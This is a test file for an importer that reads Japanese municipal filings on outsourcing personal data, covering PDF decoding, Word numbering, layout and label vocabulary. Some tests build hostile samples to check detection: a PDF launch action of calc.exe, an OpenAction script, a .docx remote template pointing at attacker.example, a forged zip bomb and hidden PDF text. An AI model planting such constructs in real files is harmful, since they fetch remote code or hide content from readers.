/**
 * The importer's stages one by one: decoders (PDF with predefined CMaps, damaged and foreign
 * files, Word's automatic numbering, zip bombs, UTF-16), the PDF page layout from positions and
 * rules, normalisation (page furniture, wraps, spread characters), numbering shapes and the
 * vocabulary of labels.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import iconv from 'iconv-lite';
import { AlignmentType, Document, LevelFormat, Packer, Paragraph } from 'docx';
import { writePdf } from '../support/pdf-writer.ts';
import { describe, expect, it } from 'vitest';
import { DEFAULT_CONFIG } from '../../src/lib/record/config.ts';
import { decodeFiling } from '../../src/lib/import/decode/bytes.ts';
import { decodeSource, sniff } from '../../src/lib/import/decode/decode.ts';
import { decodeDocx, zipEntries } from '../../src/lib/import/decode/docx.ts';
import { decodePdf } from '../../src/lib/import/decode/pdf.ts';
import { joinWrapped } from '../../src/lib/import/lines.ts';
import { isPageNumber, joinSpread, normalise, wrapWidth } from '../../src/lib/import/normalise.ts';
import { collector } from '../../src/lib/import/messages.ts';
import { layoutDocument, type PageContent, type TextItem } from '../../src/lib/import/decode/pdf-layout.ts';
import { splitAtRules } from '../../src/lib/import/decode/pdf-tables.ts';
import { isVertical } from '../../src/lib/import/decode/pdf-vertical.ts';
import { SourceError } from '../../src/lib/import/source.ts';
import { factOf, kindIn, labelForm, mattersIn, vocabulary } from '../../src/lib/import/recognise/vocabulary.ts';
import { marker, roleOf } from '../../src/lib/core/numbering.ts';

/** A one-page PDF whose text is in a font without a ToUnicode map: its codes are Shift_JIS, read only through the 90ms-RKSJ-H CMap. */
export function cmapPdf(text: string): Buffer {
  const sjis = iconv.encode(text, 'cp932').toString('hex');
  const content = `BT /F1 12 Tf 72 700 Td <${sjis}> Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
    '<< /Type /Font /Subtype /Type0 /BaseFont /MS-Mincho /Encoding /90ms-RKSJ-H /DescendantFonts [6 0 R] >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /MS-Mincho /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /FontDescriptor 7 0 R /DW 1000 >>',
    '<< /Type /FontDescriptor /FontName /MS-Mincho /Flags 4 /FontBBox [0 -141 1000 859] /ItalicAngle 0 /Ascent 859 /Descent -141 /CapHeight 769 /StemV 78 >>',
  ];
  return writePdf(objects);
}

describe('decodePdf', () => {
  it('reads text set in a CID font through the CMaps bundled with pdfjs-dist (without them the text goes missing)', async () => {
    const bytes = cmapPdf('住民票コード及び氏名');
    const doc = await decodePdf(bytes);
    expect(doc.lines.map((l) => l.text).join('')).toContain('住民票コード及び氏名');
    // The same file through pdfjs with no CMap: nothing, and no error — why the maps are loaded from disk.
    const pdfjs = await import('pdfjs-dist/legacy/build/pdf.mjs');
    const task = pdfjs.getDocument({ data: new Uint8Array(bytes), verbosity: 0 });
    const page = await (await task.promise).getPage(1);
    const items = (await page.getTextContent()).items as Array<{ str?: string }>;
    expect(items.map((i) => i.str ?? '').join('')).not.toContain('住民票');
    await task.destroy();
  });

  it('reads CJK radicals that a text layer gives for ideographs as the ideographs (⺠ 民, ⽉ 月, ⼾ 戸), and says how many', async () => {
    // A font whose ToUnicode map names radicals, as PDFs printed from Word or Chromium often have:
    // the glyph of 民 is shared with ⺠ and the map gives the lower code point.
    const map = ['533a', '2ea0', '2f49', '2f3e', '65e5'];
    const cmap = [
      '/CIDInit /ProcSet findresource begin 12 dict begin begincmap',
      '/CMapName /Radicals def 1 begincodespacerange <0000> <ffff> endcodespacerange',
      `${map.length} beginbfchar`,
      ...map.map((u, i) => `<${(i + 1).toString(16).padStart(4, '0')}> <${u}>`),
      'endbfchar endcmap CMapName currentdict /CMap defineresource pop end end',
    ].join('\n');
    const content = 'BT /F1 12 Tf 72 700 Td <00010002000300040005> Tj ET';
    const bytes = writePdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
      '<< /Type /Font /Subtype /Type0 /BaseFont /IPAMincho /Encoding /Identity-H /DescendantFonts [6 0 R] /ToUnicode 8 0 R >>',
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /IPAMincho /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor 7 0 R /DW 1000 >>',
      '<< /Type /FontDescriptor /FontName /IPAMincho /Flags 4 /FontBBox [0 -141 1000 859] /ItalicAngle 0 /Ascent 859 /Descent -141 /CapHeight 769 /StemV 78 >>',
      `<< /Length ${cmap.length} >>\nstream\n${cmap}\nendstream`,
    ]);
    const doc = await decodePdf(bytes);
    expect(doc.lines.map((l) => l.text).join('')).toBe('区民月戸日');
    expect(doc.notes.map((n) => n.message)).toContainEqual(expect.stringMatching(/^3 character\(s\) .* CJK radicals/u));
  });

  it('leaves out text drawn so that no one sees it (render mode 3, white on a white page, too small), says so, and keeps an OCR layer', async () => {
    const pdf = (content: string): Buffer =>
      writePdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
        `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      ]);
    const visible = (y: number, text: string): string => `BT /F1 12 Tf 72 ${y} Td (${text}) Tj ET`;
    const doc = await decodePdf(
      pdf(
        [
          visible(760, 'Contractor: Visible Systems Ltd'),
          visible(740, 'Items: name, address'),
          visible(720, 'Kind: prior report'),
          'BT /F1 12 Tf 3 Tr 72 700 Td (Hidden Holdings Ltd) Tj 0 Tr ET',
          'BT 1 1 1 rg /F1 12 Tf 72 680 Td (White Corp) Tj 0 0 0 rg ET',
          'BT /F1 0.3 Tf 72 660 Td (Tiny Trading) Tj ET',
        ].join('\n'),
      ),
    );
    const text = doc.lines.map((l) => l.text).join('\n');
    expect(text).toMatch(/Visible Systems Ltd/u);
    expect(text).not.toMatch(/Hidden Holdings|White Corp|Tiny Trading/u);
    expect(doc.notes.map((n) => n.message).join('\n')).toMatch(
      /3 piece\(s\) of text drawn so that no one sees them .* left out of the record: 「Hidden Holdings Ltd」、「White Corp」、「Tiny Trading」/u,
    );
    // A page whose text is all invisible is an OCR layer over a scan: its text.
    const ocr = await decodePdf(pdf('BT /F1 12 Tf 3 Tr 72 700 Td (Scanned contract text) Tj 0 Tr ET'));
    expect(ocr.lines.map((l) => l.text).join('\n')).toMatch(/Scanned contract text/u);
  });

  it('says when a PDF carries active content (JavaScript, a launch action), and not when it does not', async () => {
    const pdf = (catalogExtra: string): Buffer => {
      const content = 'BT /F1 12 Tf 72 700 Td (Itaku no kenmei) Tj ET';
      return writePdf([
        `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
        `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      ]);
    };
    const active = /active content \(JavaScript, a launch or a form-submit action\)/u;
    for (const extra of ['/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ', '/OpenAction << /S /Launch /F (calc.exe) >> ']) {
      const doc = await decodePdf(pdf(extra));
      expect(doc.notes.map((n) => n.message)).toContainEqual(expect.stringMatching(active));
    }
    expect((await decodePdf(pdf(''))).notes.map((n) => n.message)).not.toContainEqual(expect.stringMatching(active));
  });

  it('refuses a damaged, an image-only and a foreign file with what to do', async () => {
    const pdf = readFileSync(path.resolve('tests/fixtures/import/seed-000-pdf/input.pdf'));
    await expect(decodePdf(pdf.subarray(0, 200))).rejects.toThrow(SourceError);
    await expect(decodePdf(pdf.subarray(0, 200))).rejects.toThrow(/damaged or cut short/u);
    await expect(decodeSource(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]), 'a.doc')).rejects.toThrow(
      /Office 97-2003.*save it as \.docx or PDF/u,
    );
    await expect(decodeSource(Buffer.from('{\\rtf1\\ansi hello}'), 'a.rtf')).rejects.toThrow(/RTF/u);
    expect(sniff(Buffer.from('<!DOCTYPE html><p>x</p>'), 'x.txt')).toBe('html');
    expect(sniff(pdf, 'misnamed.txt')).toBe('pdf');
  });
});

describe('decodeDocx', () => {
  it('restores numbers of Word’s automatic list numbering by position, and says so', async () => {
    const doc = new Document({
      numbering: {
        config: [
          { reference: 'clauses', levels: [{ level: 0, format: LevelFormat.DECIMAL, text: '第%1条', alignment: AlignmentType.LEFT }] },
        ],
      },
      sections: [
        {
          children: [
            new Paragraph({ text: '特記事項' }),
            new Paragraph({
              text: '受託者は、業務上知り得た個人情報を他に漏らしてはならない。',
              numbering: { reference: 'clauses', level: 0 },
            }),
            new Paragraph({ text: '受託者は、個人情報を目的以外に利用してはならない。', numbering: { reference: 'clauses', level: 0 } }),
          ],
        },
      ],
    });
    const decoded = await decodeDocx(await Packer.toBuffer(doc));
    const text = decoded.lines.map((l) => l.text);
    expect(text).toContain('1 受託者は、業務上知り得た個人情報を他に漏らしてはならない。');
    expect(text).toContain('2 受託者は、個人情報を目的以外に利用してはならない。');
    expect(decoded.notes.map((n) => n.message).join('\n')).toMatch(/automatic numbering: their numbers were restored by position/u);
  });

  it('says when a .docx reaches outside itself (a remote template), and not for a plain one or a hyperlink', async () => {
    const JSZip = (await import('jszip')).default;
    const plain = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('委託の件名')] }] }));
    const external = /reaches outside itself when Word opens it \(https:\/\/attacker\.example\/t\.dotm/u;
    expect((await decodeDocx(plain)).notes.map((n) => n.message)).not.toContainEqual(expect.stringMatching(/reaches outside itself/u));
    const zip = await JSZip.loadAsync(plain);
    zip.file(
      'word/_rels/settings.xml.rels',
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
    );
    const remote = await zip.generateAsync({ type: 'nodebuffer' });
    expect((await decodeDocx(remote)).notes.map((n) => n.message)).toContainEqual(expect.stringMatching(external));
  });

  it('refuses a zip bomb before unpacking it, and a zip that is not a Word document', async () => {
    const docx = Buffer.from(readFileSync(path.resolve('tests/fixtures/import/seed-000-docx/input.docx')));
    expect(zipEntries(docx).map((e) => e.name)).toContain('word/document.xml');
    // The central directory's claimed sizes, forged to 2 GB each: refused on the claim alone.
    const view = new DataView(docx.buffer, docx.byteOffset, docx.byteLength);
    for (let i = 0; i + 46 < docx.length; i++) if (view.getUint32(i, true) === 0x02014b50) view.setUint32(i + 24, 0x7fffffff, true);
    await expect(decodeDocx(docx)).rejects.toThrow(/refused as a zip bomb/u);
    const JSZip = (await import('jszip')).default;
    const xlsx = await new JSZip().file('xl/workbook.xml', '<workbook/>').generateAsync({ type: 'nodebuffer' });
    await expect(decodeDocx(xlsx)).rejects.toThrow(/Excel workbook/u);
    await expect(decodeDocx(Buffer.from('PK\u0003\u0004 cut short'))).rejects.toThrow(/damaged or cut short/u);
  });
});

describe('decodeFiling', () => {
  it('reads UTF-16 with its byte-order mark (Windows’ “Unicode” text), not as binary', () => {
    const text = '件名\t住民記録業務\n';
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    expect(decodeFiling(le)).toMatchObject({ text, encoding: 'utf-16le' });
    const be = Buffer.from(le);
    be.swap16();
    expect(decodeFiling(be)).toMatchObject({ text, encoding: 'utf-16be' });
  });
});

const item = (str: string, x: number, y: number, size = 10, extra: Partial<TextItem> = {}): TextItem => ({
  str,
  x,
  y,
  w: [...str].length * size,
  size,
  ...extra,
});

describe('layoutDocument', () => {
  it('makes table rows from ruling lines: a cell wrapped over lines is one cell, a merged cell spans', () => {
    // A 2×2 table: rules at x 50, 150, 400 and y 700, 660, 600; the second row's value wraps.
    const h = [700, 660, 600].map((y) => ({ x1: 50, y1: y, x2: 400, y2: y }));
    const v = [50, 150, 400].map((x) => ({ x1: x, y1: 600, x2: x, y2: 700 }));
    const page: PageContent = {
      width: 595,
      height: 842,
      segments: [...h, ...v],
      items: [
        item('委託先', 55, 680),
        item('株式会社あおば', 155, 680),
        item('情報項目', 55, 640),
        item('氏名、住所、生年月日、電話番号、', 155, 640, 10, { w: 240 }),
        item('受給者番号', 155, 625),
        item('本文の段落です。', 50, 500),
      ],
    };
    const lines = layoutDocument([page])
      .lines.map((l) => l.text)
      .filter(Boolean);
    expect(lines).toEqual(['委託先\t株式会社あおば', '情報項目\t氏名、住所、生年月日、電話番号、受給者番号', '本文の段落です。']);
  });

  it('cuts a string pdfjs ran across a cell border at the space there, not inside an overflowing word', () => {
    const rule = [{ at: 83, from: 0, to: 1000 }];
    const pieces = splitAtRules([item('11 子ども医療証', 74.3, 500, 7.5, { w: 70 }), item('No.', 74.3, 520, 7.5, { w: 11.2 })], rule);
    expect(pieces.map((p) => p.str)).toEqual(['11', '子ども医療証', 'No.']);
  });

  it('marks page furniture at the edges and reads vertical text right to left', () => {
    const page = (n: number): PageContent => ({
      width: 595,
      height: 842,
      segments: [],
      items: [item('別紙２', 500, 820), item('本文です。', 50, 700), item(`- ${n} -`, 280, 20)],
    });
    const { lines } = layoutDocument([page(1), page(2)]);
    expect(lines.filter((l) => l.edge).map((l) => l.text)).toEqual(['別紙２', '- 1 -', '別紙２', '- 2 -']);
    const normalised = normalise({ format: 'pdf', lines, pages: 2, notes: [] }, { report: collector() });
    expect(normalised.lines.map((l) => l.text).filter(Boolean)).toEqual(['本文です。', '本文です。']);
    expect(normalised.dropped.map((l) => l.text)).toEqual(['別紙２', '- 1 -', '別紙２', '- 2 -']);
    const column = (x: number, text: string): TextItem[] => [...text].map((ch, k) => item(ch, x, 800 - k * 10.5, 10.5));
    const vertical = [...column(500, '縦書きの一行目です'), ...column(480, '二行目です')];
    expect(isVertical(vertical)).toBe(true);
    const read = layoutDocument([{ width: 595, height: 842, segments: [], items: vertical }]);
    expect(read.vertical).toEqual([1]);
    expect(read.lines.map((l) => l.text).filter(Boolean)).toEqual(['縦書きの一行目です', '二行目です']);
  });
});

describe('normalise', () => {
  it('joins lines wrapped at the column edge, not a line that ends a paragraph or one that starts a clause', () => {
    const doc = {
      format: 'pdf' as const,
      notes: [],
      lines: [
        { text: '1 乙は、個人情報の保護及び情報セキュリティの重要性について十分な認識を持ち、この契約によ', full: true },
        { text: 'る業務を行うに当たっては、必要な措置を講じなければならない。', full: true },
        { text: '（秘密の保持）' },
        { text: '2 乙は、業務に関して知り得た情報を一切第三者に漏らしてはならない。', full: true },
        { text: '3 乙は、…' },
      ],
    };
    expect(normalise(doc, { report: collector() }).lines.map((l) => l.text)).toEqual([
      '1 乙は、個人情報の保護及び情報セキュリティの重要性について十分な認識を持ち、この契約による業務を行うに当たっては、必要な措置を講じなければならない。',
      '（秘密の保持）',
      '2 乙は、業務に関して知り得た情報を一切第三者に漏らしてはならない。',
      '3 乙は、…',
    ]);
    expect(joinWrapped('NEC', 'Corporation')).toBe('NEC Corporation');
    // A clause number alone on its line after a full line is never glued to it (…ならない。4).
    const lone = {
      format: 'pdf' as const,
      notes: [],
      lines: [
        { text: '3 乙は、業務に関して知り得た情報を一切第三者に漏らしてはならない。', full: true },
        { text: '4', full: false },
        { text: '乙は、個人情報を適正に管理しなければならない。' },
      ],
    };
    expect(normalise(lone, { report: collector() }).lines.map((l) => l.text)).toEqual([
      '3 乙は、業務に関して知り得た情報を一切第三者に漏らしてはならない。',
      '4',
      '乙は、個人情報を適正に管理しなければならない。',
    ]);
    expect(joinWrapped('受託', '者')).toBe('受託者');
  });

  it('finds the wrap width of a plain text only when many lines share it', () => {
    const lines = Array.from({ length: 8 }, () => ({ text: 'あ'.repeat(36) }));
    expect(wrapWidth(lines)).toBe(72);
    expect(wrapWidth([{ text: 'あ'.repeat(36) }, { text: 'い'.repeat(20) }, { text: 'う'.repeat(50) }])).toBeUndefined();
  });

  it('joins characters spread by spaces, whole cells of two and runs of three or more', () => {
    expect(joinSpread('委 託 の 件 名\t株式会社 ＢＣＣ')).toBe('委託の件名\t株式会社 ＢＣＣ');
    expect(joinSpread('件 名')).toBe('件名');
    expect(joinSpread('委 託 先 ( 変 更 前 )')).toBe('委託先(変更前)');
    expect(joinSpread('地域文化部 戸籍住民課')).toBe('地域文化部 戸籍住民課');
    expect(isPageNumber('－ １ －', false)).toBe(true);
    expect(isPageNumber('3', false)).toBe(false);
    expect(isPageNumber('3', true)).toBe(true);
    expect(isPageNumber('1/3', false)).toBe(true);
  });
});

describe('numbering', () => {
  it('reads every common shape', () => {
    const shapes = [
      '1 乙は',
      '第1 乙は',
      '第１\u3000乙は',
      '第1条 乙は',
      '第十二条の2 乙は',
      '(1) 思想',
      '（１）思想',
      'ア 乙は',
      '① 乙は',
      '一 委託先',
    ].map((t) => {
      const m = marker(t);
      return m && [m.shape, m.value];
    });
    expect(shapes).toEqual([
      ['num', 1],
      ['dai', 1],
      ['dai', 1],
      ['jo', 1],
      ['jo', 12],
      ['paren', 1],
      ['paren', 1],
      ['kana', 1],
      ['circled', 1],
      ['num', 1],
    ]);
    for (const t of ['2020年', 'アンケート', '第1回', '1,000円']) expect(marker(t), t).toBeUndefined();
    expect(roleOf(marker('2 前項')!, 'jo')).toBe('paragraph');
    expect(roleOf(marker('(1) 思想')!, 'num')).toBe('item');
  });
});

describe('vocabulary', () => {
  const v = vocabulary(DEFAULT_CONFIG);
  it('one table of synonyms for the labels', () => {
    const of = (l: string): string | undefined => factOf(l, v)?.key;
    for (const l of ['委託先', '受託者', '委託業者', '委託先(変更後)']) expect(of(l), l).toBe('contractors');
    for (const l of ['委託の期間', '委託期間', '委託の開始時期及び期限', '新規開発・追加・変更の時期']) expect(of(l), l).toBe('period');
    for (const l of [
      '情報項目',
      '個人情報の項目',
      '委託する個人情報の項目',
      '委託に伴い事業者処理させる情報項目(だれの、どのような項目か)',
    ])
      expect(of(l), l).toBe('items');
    expect(of('保有している情報項目')).toBeUndefined();
    expect(of('処理させる情報項目の記録媒体')).toBe('media');
    expect(of('委託先の選定理由')).toBe('reason');
    expect(factOf('委託先（変更前）', v)).toEqual({ key: 'contractors', change: '変更前' });
    expect(labelForm('４　委託する個人情報の項目：')).toBe('委託する個人情報の項目');
  });

  it('kinds in their other words, and the matters a filing names', () => {
    expect(['【報告】', '**【諮問】**', '審議事項', '報告事項（２）', '報告事項１', '諮問第3号'].map((l) => kindIn(l, v))).toEqual([
      '報告',
      '諮問',
      '審議',
      '報告',
      '報告',
      '諮問',
    ]);
    expect(kindIn('【通知】', v)).toBeUndefined();
    expect(mattersIn(['業務委託、再委託'], v)).toEqual(['業務委託', '再委託']);
    expect(mattersIn(['第2 電子計算機の結合について', 'オンライン結合'], v)).toEqual(['電子計算機の結合']);
    expect(mattersIn(['重要な個人情報の提供等を伴う委託'], v)).toEqual(['業務委託']);
    const custom = vocabulary({ ...DEFAULT_CONFIG, labels: { contractors: ['受任者'] } });
    expect(factOf('受任者', custom)?.key).toBe('contractors');
  });
});
